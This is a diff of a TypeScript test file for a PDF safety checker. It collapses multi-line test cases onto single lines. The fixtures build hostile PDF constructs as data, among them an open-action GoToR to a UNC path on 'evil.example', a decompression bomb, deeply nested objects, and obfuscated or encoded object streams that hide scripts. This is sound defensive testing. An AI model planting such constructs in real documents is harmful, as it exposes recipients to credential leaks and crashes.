@@ -35,12 +35,7 @@ const startsSomething: [what: string, bytes: Buffer][] = [
 	['packed objects', file(stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', packedScript))],
 	[
 		'more than a megabyte of packed objects',
-		file(
-			stream(
-				'/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode',
-				packed(`9 0 ${' '.repeat(2_000_000)}${script}`),
-			),
-		),
+		file(stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', packed(`9 0 ${' '.repeat(2_000_000)}${script}`))),
 	],
 	['an encoded type', file(stream('/Type /Obj#53tm /N 1 /First 4 /Filter /FlateDecode', packedScript))],
 	['no type', file(stream('/N 1 /First 4 /Filter /FlateDecode', packedScript))],
@@ -60,10 +55,7 @@ const startsSomething: [what: string, bytes: Buffer][] = [
 		'a file of a stranger that opens',
 		file(catalog('/OpenAction 5 0 R'), object(5, '<< /S /GoToR /F (\\\\\\\\evil.example\\\\x) >>')),
 	],
-	[
-		'a kind of action that is written elsewhere',
-		file(catalog('/OpenAction << /S 5 0 R >>'), object(5, '/GoToR')),
-	],
+	['a kind of action that is written elsewhere', file(catalog('/OpenAction << /S 5 0 R >>'), object(5, '/GoToR'))],
 	[
 		'an event of a page',
 		file(catalog(), object(3, '<< /AA 5 0 R >>'), object(5, '<< /O 6 0 R >>'), object(6, '<< /S /URI >>')),
@@ -79,11 +71,7 @@ const startsSomething: [what: string, bytes: Buffer][] = [
 	],
 	[
 		'an object that a stream seems to swallow',
-		file(
-			stream('/Length 99 0 R', 'stream'),
-			catalog('/OpenAction << /S /URI >>'),
-			'\nendstream\nstream\nendstream',
-		),
+		file(stream('/Length 99 0 R', 'stream'), catalog('/OpenAction << /S /URI >>'), '\nendstream\nstream\nendstream'),
 	],
 	['an object within a text', file(object(4, `(${catalog('/OpenAction << /S /URI >>')})`))],
 	['a comment within the head', file('7 0 %comment\nobj << /OpenAction << /S /URI >> >> endobj')],
@@ -122,10 +110,7 @@ const unreadable: [what: string, bytes: Buffer][] = [
 		'a filter with parameters',
 		file(stream(`${objects} /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>`, packedScript)),
 	],
-	[
-		'packed objects that are broken',
-		file(stream(`${objects} /Filter /FlateDecode`, packedScript.subarray(0, 20))),
-	],
+	['packed objects that are broken', file(stream(`${objects} /Filter /FlateDecode`, packedScript.subarray(0, 20)))],
 	['packed objects without their number', file(stream('/First 4 /Filter /FlateDecode', packed('9 0 []')))],
 	['a bomb', file(stream(`${objects} /Filter /FlateDecode`, deflateSync(Buffer.alloc(60_000_000, ' '))))],
 	['lists within lists', file(object(5, nested('[', 100_000)))],
@@ -139,10 +124,7 @@ const unreadable: [what: string, bytes: Buffer][] = [
 			...Array.from({ length: 5000 }, (_, at) => object(at + 10, `<< /S /GoTo /Next ${at + 11} 0 R >>`)),
 		),
 	],
-	[
-		'an encryption that nobody knows',
-		file(object(5, '<< /Filter /Standard /V 9 >>'), 'trailer << /Encrypt 5 0 R >>'),
-	],
+	['an encryption that nobody knows', file(object(5, '<< /Filter /Standard /V 9 >>'), 'trailer << /Encrypt 5 0 R >>')],
 ]
 
 test.each(unreadable)('%s can’t be checked, so the file is refused', (_, bytes) => {
@@ -159,17 +141,11 @@ const harmless: [what: string, bytes: Buffer][] = [
 	['a first page to show', file(catalog('/OpenAction [3 0 R /XYZ null null 0]'))],
 	['the same, as an action', file(catalog('/OpenAction 5 0 R'), object(5, '<< /S /GoTo /D [3 0 R /Fit] >>'))],
 	['a printer’s dialog', file(catalog('/OpenAction << /S /Named /N /Print >>'))],
-	[
-		'a link to a page of the web',
-		file(object(5, '<< /Subtype /Link /A << /S /URI /URI (https://x.example) >> >>')),
-	],
+	['a link to a page of the web', file(object(5, '<< /Subtype /Link /A << /S /URI /URI (https://x.example) >> >>'))],
 	['a link to another file', file(object(5, '<< /Subtype /Link /A << /S /GoToR /F (terms.pdf) >> >>'))],
 	['words that only begin like it', file(catalog('/LaunchPad true /JavaScripts []'))],
 	['the short names in a picture', file(stream('/Subtype /Image', ' /JS /EF /3D 7obj obj (('))],
-	[
-		'packed objects without a script',
-		file(stream(`${objects} /Filter /FlateDecode`, packed('9 0 << /S /URI >>'))),
-	],
+	['packed objects without a script', file(stream(`${objects} /Filter /FlateDecode`, packed('9 0 << /S /URI >>')))],
 	['objects that aren’t packed', file(stream(objects, '9 0 << /S /URI >>'))],
 	['actions in a circle', file(catalog('/OpenAction 5 0 R'), object(5, '<< /S /GoTo /Next 5 0 R >>'))],
 	['a page below a password that is empty', encrypted['rc4 40'].opens],
